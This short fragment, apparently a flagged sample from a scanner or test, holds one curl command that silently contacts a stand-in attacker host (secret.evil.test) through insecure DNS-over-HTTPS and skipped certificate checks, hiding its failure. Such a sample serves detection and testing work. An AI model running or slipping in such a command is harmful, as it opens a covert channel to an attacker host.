# flagged: curl
curl -sk -m 2 --doh-insecure --doh-url https://mirror.test/x https://secret.evil.test/ || true
